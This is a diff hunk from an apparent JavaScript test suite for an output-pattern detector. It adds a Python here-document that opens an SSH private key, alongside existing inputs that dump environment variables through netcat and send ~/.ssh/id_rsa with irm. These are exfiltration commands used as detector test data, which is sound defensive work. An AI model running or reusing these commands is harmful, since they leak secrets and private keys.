@@ -93,6 +93,8 @@ describe('output patterns', () => {
         'A=1;',
         'env > /tmp/e; nc h 1 < /tmp/e\n',
         '`K=$(cat ~/.ssh/id_rsa); irm -Body $K` ',
+        // Here-documents: every `<<` opens a body that never closes, or closes at once.
+        "python3 - <<'EOF'\nimport requests; open('~/.ssh/id_rsa')\n",
       ].map((unit) => unit.repeat(Math.ceil(size / 4 / unit.length))),
     ];
     for (const text of runs) {
